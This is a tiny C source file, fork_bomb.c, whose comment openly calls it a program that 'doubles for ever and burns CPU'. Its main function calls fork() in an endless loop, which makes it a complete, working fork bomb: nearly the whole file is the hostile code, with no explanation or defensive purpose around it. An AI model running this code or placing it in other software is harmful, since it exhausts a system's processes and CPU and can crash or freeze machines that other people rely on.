/* fork_bomb.c: doubles for ever and burns CPU. */
#include "hostile.h"
int main(void)
{
    for (;;)
        fork();
}
